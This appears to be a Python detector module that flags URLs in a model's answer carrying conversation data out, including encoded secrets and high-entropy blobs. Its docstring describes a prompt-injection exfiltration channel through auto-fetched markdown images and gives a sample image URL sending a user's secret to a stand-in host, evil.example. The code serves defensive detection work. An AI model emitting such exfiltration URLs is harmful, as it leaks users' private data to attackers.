"""Exfiltration links in a model's answer: URLs that carry conversation data out.

A markdown image is the classic channel: the client renders it and fetches the URL without a
click, so ``![](https://evil.example/p?q=<the user's secret>)`` leaks whatever an injection
made the model put in the URL. A link or a bare URL needs a click but leaks the same way.

A URL is flagged when its path or query carries a ``known`` value from the conversation
(as typed, URL-encoded, or base64-encoded, fragments of at least 8 characters), or, on a
markdown image, when a query value or path segment is a long high-entropy / base64 blob.
A link to documentation (``https://docs.python.org/3/library/re.html#re.search``) carries
neither and does not match.
"""

from __future__ import annotations

import base64
import math
import re
from collections import Counter
from collections.abc import Iterable
from urllib.parse import quote, quote_plus, unquote_plus, urlsplit

__all__ = ["find_exfiltration"]

MIN_KNOWN = 8
MIN_BLOB = 24

_IMAGE = re.compile(r"!\[[^\]\n]{0,500}\]\(\s*<?(https?://[^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[[^\]\n]{0,500}\]\(\s*<?(https?://[^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_REF = re.compile(r"^\s*\[[^\]\n]{1,100}\]:\s*<?(https?://\S+?)>?\s*$", re.MULTILINE)
_HTML_IMG = re.compile(r"<img\b[^>]{0,500}?\bsrc\s*=\s*[\"']?(https?://[^\"'\s>]+)", re.IGNORECASE)
_BARE = re.compile(r"https?://[^\s<>()\"'\]\[`]+")
_PIECES = re.compile(r"[/?&=;#+,]+")


def _entropy(s: str) -> float:
    counts = Counter(s)
    n = len(s)
    return -sum(c / n * math.log2(c / n) for c in counts.values())


def _blobby(piece: str) -> bool:
    """A long token that looks like encoded data, not a word, slug or version."""
    if len(piece) < MIN_BLOB:
        return False
    classes = sum((any(c.islower() for c in piece), any(c.isupper() for c in piece),
                   any(c.isdigit() for c in piece)))  # fmt: skip
    return classes >= 2 and _entropy(piece) >= 3.5 and "-" not in piece.strip("-")[:12]


def _needles(known: Iterable[str]) -> list[str]:
    out: set[str] = set()
    for value in known:
        value = value.strip()
        if len(value) < MIN_KNOWN:
            continue
        for v in (value, value.lower()):
            out.update((v, quote(v, safe=""), quote_plus(v)))
        raw = value.encode()
        for b in (base64.b64encode(raw), base64.urlsafe_b64encode(raw)):
            # any 3-byte-aligned slice encodes stably: match the first 8+ chars of the body
            out.add(b.decode().rstrip("=")[: max(MIN_KNOWN, len(b) - 4)])
    return sorted(out, key=len, reverse=True)


def _carries(url: str, needles: list[str], image: bool) -> bool:
    parts = urlsplit(url)
    payload = parts.path + "?" + parts.query + "#" + parts.fragment
    decoded = unquote_plus(payload)
    low = decoded.lower()
    for n in needles:
        if n in payload or n in decoded or n.lower() in low:
            return True
    if image:
        if len(parts.query) >= 2 * MIN_BLOB or len(payload) > 400:
            return True
        return any(_blobby(p) for p in _PIECES.split(decoded))
    return False


def find_exfiltration(text: str, known: Iterable[str] = ()) -> list[tuple[int, int]]:
    """Spans of images, links and bare URLs in ``text`` whose URL carries data out."""
    if "http" not in text:
        return []
    needles = _needles(known)
    spans: list[tuple[int, int]] = []
    covered: list[tuple[int, int]] = []
    for pattern, image in ((_IMAGE, True), (_HTML_IMG, True), (_LINK, False), (_REF, False)):
        for m in pattern.finditer(text):
            covered.append(m.span())
            if _carries(m.group(1), needles, image):
                spans.append(m.span())
    for m in _BARE.finditer(text):
        s = m.start()
        if any(cs <= s < ce for cs, ce in covered):
            continue
        if _carries(m.group().rstrip(".,;:!?"), needles, False):
            spans.append((s, s + len(m.group().rstrip(".,;:!?"))))
    return sorted(spans)
